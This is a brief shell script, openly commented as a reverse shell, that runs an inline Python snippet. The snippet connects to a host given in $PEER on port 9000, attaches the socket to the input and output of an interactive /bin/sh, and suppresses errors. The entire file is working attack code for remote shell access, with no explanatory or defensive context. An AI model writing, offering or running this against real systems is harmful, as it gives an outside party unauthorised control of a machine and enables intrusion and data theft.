# A reverse shell in Python: a socket on stdin and stdout of /bin/sh.
. "$LIB/common.sh"
/usr/bin/python3 -c "
import os, socket
s = socket.create_connection(('$PEER', 9000), 5)
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
os.execv('/bin/sh', ['sh', '-i'])
" 2> /dev/null
exit 0
